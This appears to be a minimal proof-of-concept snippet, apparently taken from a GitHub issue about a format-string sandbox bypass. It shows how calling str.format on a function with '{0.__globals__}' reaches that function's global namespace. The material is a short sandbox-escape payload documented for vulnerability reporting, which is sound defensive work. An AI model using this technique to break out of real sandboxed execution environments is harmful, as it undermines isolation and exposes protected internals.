# Source: https://github.com/aden-hive/hive/issues/715 (format string sandbox bypass)
def helper():
    return 1

print("{0.__globals__}".format(helper))
